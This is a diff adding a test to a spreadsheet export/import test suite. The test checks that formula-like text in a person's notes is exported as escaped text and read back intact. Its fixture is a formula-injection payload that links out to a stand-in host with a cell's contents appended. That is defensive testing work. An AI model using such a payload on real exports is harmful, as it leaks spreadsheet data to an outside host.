@@ -309,3 +309,20 @@ def test_a_template_sent_back_empty_says_so(world, tenant_session, principal_of)
             fileobj=io.BytesIO(xlsx.template_workbook()),
         )
     assert "chỉ có dòng tiêu đề" in caught.value.message
+
+
+def test_export_writes_formula_like_text_as_text_and_the_import_reads_it_back(
+    world, as_user, make_person
+):
+    trap = '=HYPERLINK("http://x.example/?"&B5,"Xem")'
+    make_person(full_name="Nguyễn Văn Bẫy", notes=trap)
+    staff = as_user("alpha", "x-staff")
+    exported = staff.get(
+        "supervision/people/export", query_string={"unit_id": world.alpha.commune_x}
+    )
+    sheet = load_workbook(io.BytesIO(exported.data)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert "'" + trap in [c.value for c in cells]
+    shown = preview(as_user("alpha", "admin"), exported.data, world.alpha.commune_y).get_json()
+    assert [r["values"]["notes"] for r in shown["rows"]] == [trap], shown
